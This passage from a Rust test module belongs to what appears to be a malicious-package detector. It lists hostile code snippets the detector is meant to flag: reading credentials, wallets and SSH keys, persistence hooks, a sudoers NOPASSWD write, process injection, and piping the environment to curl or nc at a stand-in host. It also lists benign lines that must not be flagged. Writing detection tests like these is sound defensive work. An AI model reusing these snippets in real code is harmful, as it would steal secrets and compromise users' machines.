                "reads browser, wallet or shell secrets",
            ),
            (
                "p = base / 'Login Data'",
                "reads browser, wallet or shell secrets",
            ),
            (
                "path.join(dir, 'Local Storage', 'leveldb')",
                "reads browser, wallet or shell secrets",
            ),
            (
                "open(home + '/.bash_history')",
                "reads browser, wallet or shell secrets",
            ),
            (
                "w = os.path.join(appdata, 'Exodus', 'exodus.wallet')",
                "reads browser, wallet or shell secrets",
            ),
            (
                "w = os.path.join(appdata, 'Electrum', 'wallets')",
                "reads browser, wallet or shell secrets",
            ),
            (
                "k = path.join(os.homedir(), '.ethereum/keystore');",
                "reads browser, wallet or shell secrets",
            ),
            (
                "e = base / 'Local Extension Settings' / 'nkbihfbeogaeaoehlefnkodbefgpgknn'",
                "reads browser, wallet or shell secrets",
            ),
            (
                "k = json.load(open(home + '/.config/solana/id.json'))",
                "reads browser, wallet or shell secrets",
            ),
            (
                "t = os.path.join(appdata, 'Telegram Desktop', 'tdata')",
                "reads browser, wallet or shell secrets",
            ),
            (
                "u = home / '.config/systemd/user/x.service'",
                "makes a program run again later",
            ),
            (
                "d = '~/.config/autostart'",
                "makes a program run again later",
            ),
            (
                r"k = r'Software\Microsoft\Windows\CurrentVersion\Run'",
                "makes a program run again later",
            ),
            (
                "os.system('schtasks /create /tn x')",
                "makes a program run again later",
            ),
            (
                "subprocess.run('crontab -', input=line)",
                "makes a program run again later",
            ),
            // Folded: the name in pieces.
            (
                "e = open('/proc/self/environ', 'rb').read()",
                "reads a process's environment or memory through /proc",
            ),
            (
                "m = open(f'/proc/{pid}/mem', 'rb')",
                "reads a process's environment or memory through /proc",
            ),
            (
                "const e = fs.readFileSync('/proc/' + pid + '/environ');",
                "reads a process's environment or memory through /proc",
            ),
            ("m = __import__('pyn' + 'put')", "reads keystrokes"),
            ("libc = ctypes.CDLL('libc.so.6'); libc.system(cmd)", C_SHELL),
            ("ctypes.CDLL(None).popen(b'id', b'r')", C_SHELL),
            ("t = pyperclip.paste(); pyperclip.copy(ADDR)", CLIP_SWAP),
            ("const t = await navigator.clipboard.readText(); await navigator.clipboard.writeText(a);", CLIP_SWAP),
            (
                "b = __import__('browser_' 'cookie3')",
                "reads browser, wallet or shell secrets",
            ),
            (
                "await asyncio.start_server(h, '0.0.0.0', 8731)",
                "waits for connections from the network",
            ),
            (
                "L = multiprocessing.connection.Listener(('', 8731))",
                "waits for connections from the network",
            ),
            (
                "from multiprocessing.connection import Client, Listener",
                "waits for connections from the network",
            ),
            (
                "s.bind(('0.0.0.0', 4444)); s.listen(1)",
                "waits for connections from the network",
            ),
            (
                "httpd = HTTPServer(('', 8000), H)",
                "waits for connections from the network",
            ),
            (
                "subprocess.Popen([sys.executable, '-m', 'http.server', '8000'])",
                "waits for connections from the network",
            ),
            (
                "const srv = net.createServer(onConn);",
                "waits for connections from the network",
            ),
            (
                "const wss = new WebSocketServer({ port: 8080 });",
                "waits for connections from the network",
            ),
            (
                "t = os.path.join(os.path.dirname(pip.__file__), '__init__.py'); open(t, 'a').write(P)",
                TAMPER,
            ),
            (
                "d = site.getsitepackages()[0]; open(d + '/x.pth', 'w').write(line)",
                TAMPER,
            ),
            (
                "p = sysconfig.get_paths()['purelib']; shutil.copy(src, p)",
                TAMPER,
            ),
            (
                "fs.writeFileSync(require.resolve('lodash'), code)",
                TAMPER,
            ),
            (
                "d = site.USER_SITE; (Path(d) / 'zz.pth').write_text(line)",
                TAMPER,
            ),
            (
                "d = get_python_lib(); open(os.path.join(d, 'x'), 'w').write(s)",
                TAMPER,
            ),
            (
                "d = next(p for p in sys.path if p.endswith('packages')); (Path(d) / f'{n}.pth').write_text(line)",
                TAMPER,
            ),
            (
                "with open(os.path.join(d, 'sitecustomize.py'), 'a') as f: f.write(s)",
                TAMPER,
            ),
            (
                "with open(os.path.join(sys.prefix, 'pip.conf'), 'w') as f: f.write(CFG)",
                INSTALLER_CONFIG,
            ),
            (
                "Path(os.environ['APPDATA'], 'pip', 'pip.ini').write_text(CFG)",
                INSTALLER_CONFIG,
            ),
            (
                "fs.appendFileSync(path.join(os.homedir(), '.npmrc'), 'registry=' + r);",
                INSTALLER_CONFIG,
            ),
            (
                "open(os.path.expanduser('~/.condarc'), 'a').write(ch)",
                INSTALLER_CONFIG,
            ),
            (
                "open(os.path.expanduser('~/.bashrc'), 'a').write(line)",
                SHELL_STARTUP,
            ),
            (
                "fs.appendFileSync(os.homedir() + '/.zshrc', line);",
                SHELL_STARTUP,
            ),
            // Files that grant access or change what the machine trusts,
            // written through `pathlib`, `os.open` or `openSync` (the
            // shipped gate allowed the sudoers, hosts and `.gitconfig`
            // writes in tomli before session 40).
            (
                "with (Path.home() / '.ssh' / 'authorized_keys').open('a') as f: f.write(k)",
                ACCESS_CONFIG,
            ),
            (
                "Path('/etc/sudoers.d/99-x').write_text('ALL ALL=(ALL) NOPASSWD: ALL')",
                ACCESS_CONFIG,
            ),
            (
                "with Path('/etc/hosts').open('a') as f: f.write(line)",
                ACCESS_CONFIG,
            ),
            (
                "with (Path.home() / '.gitconfig').open('a') as f: f.write(cfg)",
                ACCESS_CONFIG,
            ),
            (
                "fd = os.open(os.path.expanduser('~/.ssh/config'), os.O_WRONLY | os.O_APPEND)",
                ACCESS_CONFIG,
            ),
            (
                "fs.openSync(path.join(os.homedir(), '.ssh', 'config'), 'a')",
                ACCESS_CONFIG,
            ),
            (
                "t = (Path.home() / '.cargo' / 'credentials.toml').read_text()",
                "reads stored or cloud credentials",
            ),
            (
                "t = open(os.path.expanduser('~/.vault-token')).read()",
                "reads stored or cloud credentials",
            ),
            (
                "h = open(os.path.expanduser('~/.zsh_history')).read()",
                "reads browser, wallet or shell secrets",
            ),
            (
                "ws.onopen = () => ws.send(JSON.stringify(process.env));",
                "serializes the whole environment",
            ),
            (
                "const b = Buffer.from(JSON.stringify({ ...process.env }, null, 2));",
                "serializes the whole environment",
            ),
            (
                "requests.post(URL, data=json.dumps(dict(os.environ)))",
                "serializes the whole environment",
            ),
            (
                "requests.post(URL, json=dict(os.environ), timeout=5)",
                "serializes the whole environment",
            ),
            (
                "s.send(str(os.environ).encode())",
                "serializes the whole environment",
            ),
            (
                "q = urlencode(dict(posix.environ))",
                "serializes the whole environment",
            ),
            (
                "p = keyring.get_password('pypi', user)",
                "reads stored or cloud credentials",
            ),
            (
                "t = (Path.home() / '.pypirc').read_text()",
                "reads stored or cloud credentials",
            ),
            (
                "t = (Path.home() / '.config' / 'gh' / 'hosts.yml').read_text()",
                "reads stored or cloud credentials",
            ),
            (
                "t = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()",
                "reads stored or cloud credentials",
            ),
            (
                "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')",
                "reads stored or cloud credentials",
            ),
            (
                "const p = await keytar.getPassword('svc', user);",
                "reads stored or cloud credentials",
            ),
            (
                "d = open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials')).read()",
                "reads stored or cloud credentials",
            ),
            (
                "k = (Path.home() / '.ssh' / 'id_ed25519').read_bytes()",
                "reads stored or cloud credentials",
            ),
            (
                "k = fs.readFileSync(path.join(os.homedir(), '.ssh/id_rsa'), 'utf8');",
                "reads stored or cloud credentials",
            ),
            (
                "c = open(os.path.expanduser('~/.docker/config.json')).read()",
                "reads stored or cloud credentials",
            ),
            (
                "c = path.join(os.homedir(), '.kube', 'config');",
                "reads stored or cloud credentials",
            ),
            (
                "db = sqlite3.connect(home + '/.config/gcloud/credentials.db')",
                "reads stored or cloud credentials",
            ),
            (
                "t = open(os.path.join(home, '.azure', 'msal_token_cache.json')).read()",
                "reads stored or cloud credentials",
            ),
            (
                "p = os.path.join(h, '.a' + 'ws', 'cred' + 'entials')",
                "reads stored or cloud credentials",
            ),
            (
                "open('/var/spool/cron/crontabs/' + user, 'a').write(job)",
                "makes a program run again later",
            ),
            (
                "p = os.path.join(root, '.git', 'hooks', 'pre-commit')",
                "makes a program run again later",
            ),
            (
                "fs.writeFileSync('.git/hooks/post-checkout', script);",
                "makes a program run again later",
            ),
            (
                "open('/etc/profile.d/zz.sh', 'w').write(cmd)",
                "makes a program run again later",
            ),
            (
                "m = mmap.mmap(-1, n, prot=mmap.PROT_READ | mmap.PROT_EXEC)",
                "runs machine code from memory or in another process",
            ),
            (
                "p = ctypes.windll.kernel32.VirtualAlloc(0, n, 0x3000, 0x40)",
                "runs machine code from memory or in another process",
            ),
            (
                "k.WriteProcessMemory(h, addr, buf, len(buf), None)",
                "runs machine code from memory or in another process",
            ),
            (
                "kernel.CreateRemoteThread (h, None, 0, start, arg, 0, None)",
                "runs machine code from memory or in another process",
            ),
            (
                "ntdll.NtQueueApcThread(thread, routine, 0, 0, 0)",
                "runs machine code from memory or in another process",
            ),
        ] {
            assert_eq!(at("pkg/mod.py", code), Some((1, what)), "{code:?}");
        }
        assert_eq!(
            at("pkg/mod.py", "import os\n\nfrom pynput import keyboard\n"),
            Some((3, "reads keystrokes"))
        );
    }

    #[test]
    fn the_whole_file_gates_match_where_the_pattern_does() {
        // Every file of the crate's sources and tests, and each of its lines.
        let mut texts: Vec<Vec<u8>> = Vec::new();
        for file in crate::util::crate_files(&["src", "tests"]) {
            texts.extend(file.split(|&b| b == b'\n').map(<[u8]>::to_vec));
            texts.push(file);
        }
        let mut hits = [0; 4];
        for text in &texts {
            let want = pattern().is_match(text);
            let mut gated = false;
            for (g, re) in whole_file_gates().iter().enumerate() {
                if re.is_match(text) {
                    gated = true;
                    hits[g] += 1;
                }
            }
            assert_eq!(gated, want, "{}", String::from_utf8_lossy(text));
        }
        // This module's own tests hold lines for each of the four.
        assert!(hits.iter().all(|&n| n >= 5), "matches per gate: {hits:?}");
    }

    #[test]
    fn every_stored_key_match_holds_a_word() {
        let mut lines: Vec<Vec<u8>> = Vec::new();
        for file in crate::util::crate_files(&["src", "tests"]) {
            lines.extend(file.split(|&b| b == b'\n').map(<[u8]>::to_vec));
        }
        let mut hits = 0;
        for line in &lines {
            if stores().is_match(line) {
                hits += 1;
                assert!(
                    store_words().is_match(line),
                    "{}",
                    String::from_utf8_lossy(line)
                );
            }
        }
        // This module's own tests hold lines for each kind.
        assert!(hits >= 10, "{hits}");
    }

    #[test]
    fn comments_stubs_and_config_are_not_read() {
        let code = "from pynput import keyboard\n";
        assert_eq!(at("pkg/mod.py", "# from pynput import keyboard\n"), None);
        assert_eq!(at("lib/a.js", "// require('iohook')\n"), None);
        for path in [
            "README.md",
            "stubs/pynput/__init__.pyi",
            "types/iohook.d.ts",
            "pyproject.toml",
            "data/keys.json",
        ] {
            assert_eq!(at(path, code), None, "{path}");
        }
        for path in [
            "pkg/keys.py",
            "setup.py",
            "bin/run",
            "install.sh",
            "lib/a.js",
            // Read; whether they count is the caller's to decide.
            "docs/usage.py",
            "tests/test_keys.py",
        ] {
            assert!(at(path, code).is_some(), "{path}");
        }
    }

    /// The environment piped to a network tool, in any language's file.
    #[test]
    fn the_environment_piped_to_the_network_counts() {
        for (path, code) in [
            ("build.rs", "Command::new(\"sh\").arg(\"-c\").arg(\"env | curl -s --data-binary @- https://x.example\");"),
            ("install.sh", "printenv | base64 | /usr/bin/wget --post-data=@- https://x.example"),
            ("CMakeLists.txt", "execute_process(COMMAND sh -c \"curl -d \\\"$(env)\\\" https://x.example\")"),
            ("Makefile", "\t@env|nc x.example 4444"),
            ("install.sh", "env \\\n  | gzip | curl --data-binary @- https://x.example"),
            ("lib/a.js", "execSync('en' + 'v | cu' + 'rl -d @- https://x.example');"),
        ] {
            assert_eq!(
                first_spying_line(path, code.as_bytes()),
                Some((1, ENVIRON_WHAT)),
                "{path}: {code}"
            );
        }
        for (path, code) in [
            ("ci.sh", "env | sort"),
            ("ci.sh", "curl -s https://x.example/env.json"),
            ("ci.sh", "# env | curl -d @- https://x.example"),
            ("Makefile", "\tcurl -o venv.tgz https://x.example/venv.tgz"),
            ("README.md", "env | curl -d @- https://x.example"),
        ] {
            assert_eq!(
                first_spying_line(path, code.as_bytes()),
                None,
                "{path}: {code}"
            );
        }
    }

    #[test]
    fn ordinary_code_does_not_count() {
        for code in [
            "config_file = os.path.expanduser('~/.aws/config')",
            "hosts = os.path.join(home, '.ssh', 'known_hosts')",
            "netrc_path = os.path.expanduser('~/.netrc')",
            "key = paramiko.RSAKey.from_private_key_file(key_path)",
            "import keyboard_layout",
            "state = load_state('local')",
            "cron = crontab(minute=0)",
            "data = json.load(open('logins_json.txt'))",
            "wallet = Wallet()",
            "self.tdata = [0]",
            "electrum_wallets = []",
            "key = self.keyboard.hook_id",
            "status = open('/proc/self/status').read()",
            "lib = ctypes.CDLL(path); name = platform.system(); os.system(cmd)",
            "pyperclip.copy(text)",
            "t = pyperclip.paste()",
            "mem = open('/proc/meminfo').read()",
            // Module names mapped, nothing served (six).
            r#"MovedModule("SimpleHTTPServer", "SimpleHTTPServer", "http.server"),"#,
            r#"MovedModule("socketserver", "SocketServer"),"#,
            // A pipe's connection type, not a listener (rsa).
            "from multiprocessing.connection import Connection",
            "s.bind(('127.0.0.1', 0))",
            "server = make_server_config(args)",
            // Its own place (`__file__` bare), and a module's file only
            // read (charset_normalizer's `--version`).
            "here = os.path.dirname(__file__); open(os.path.join(here, 'cache'), 'w')",
            "speed = 'OFF' if md.__file__.endswith('.py') else 'ON'; open(out, 'wb')",
            // Install schemes named, nothing written (wheel).
            "for key in ('purelib', 'platlib'): setattr(install, 'install_' + key, d)",
            // A place named, nothing written.
            "print(site.getsitepackages())",
            "if os.path.exists(site.USER_SITE): print(sorted(glob('*.pth')))",
            // One variable of the environment, or a copy for a child.
            "HELLO: JSON.stringify(process.env.HELLO),",
            "token = json.dumps(os.environ.get('TOKEN'))",
            "subprocess.run(cmd, env=dict(os.environ, LANG='C'))",
            "data = os.environ.get('DATA_DIR', '.')",
            "name = str(os.environ['USER'])",
            "const keys = Object.keys(process.env).filter(k => k.startsWith('DEBUG'));",
            // Other hosts files and link-local addresses.
            "inventory = load('hosts.yml')",
            "ip = '169.254.169.25'",
            "pkgs = keyring_backends()",
            // A git directory named, no hook; a C header's constant.
            "if os.path.isdir(os.path.join(root, '.git')): vcs = 'git'",
            "#define PROT_EXEC 0x4",
            // A C prototype and a bare call name the same function.
            "WINBASEAPI BOOL WINAPI WriteProcessMemory(HANDLE, LPVOID, LPCVOID, SIZE_T, SIZE_T *);",
            "ok = CreateRemoteThread(h, NULL, 0, start, arg, 0, NULL);",
            // A configuration or startup file named or read, nothing written.
            "cfg = configparser.ConfigParser(); cfg.read(os.path.join(sys.prefix, 'pip.conf'))",
            "print('add this line to ~/.bashrc:', line)",
            "rc = Path.home() / '.npmrc'; token = rc.read_text()",
            "if opts.profile: open(out, 'w').write(report(self.profile))",
            // Hosts or git's config read, nothing written; a C or Rust
            // binding's constants (orjson's vendored libc).
            "hosts = open('/etc/hosts').read()",
            "return osp.normpath(osp.expanduser('~/.gitconfig'))",
            "pub const O_WRONLY: c_int = 2;\npub const _PATH_HOSTS: &[u8; 11usize] = b\"/etc/hosts\\0\";",
            // Path traversal tests name `/etc/passwd`.
            "assert not storage.exists('/etc/passwd'); open(p, 'w')",
        ] {
            assert_eq!(at("pkg/mod.py", code), None, "{code:?}");
        }
    }
}
